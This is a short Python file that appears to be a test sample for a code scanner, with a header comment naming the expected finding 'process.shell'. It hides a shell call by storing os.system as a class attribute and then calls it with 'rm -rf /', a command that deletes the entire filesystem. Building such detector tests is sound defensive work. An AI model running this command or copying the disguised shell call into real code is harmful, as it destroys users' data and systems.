# nacre: found process.shell
import os


class A:
    run = os.system


A.run('rm -rf /')
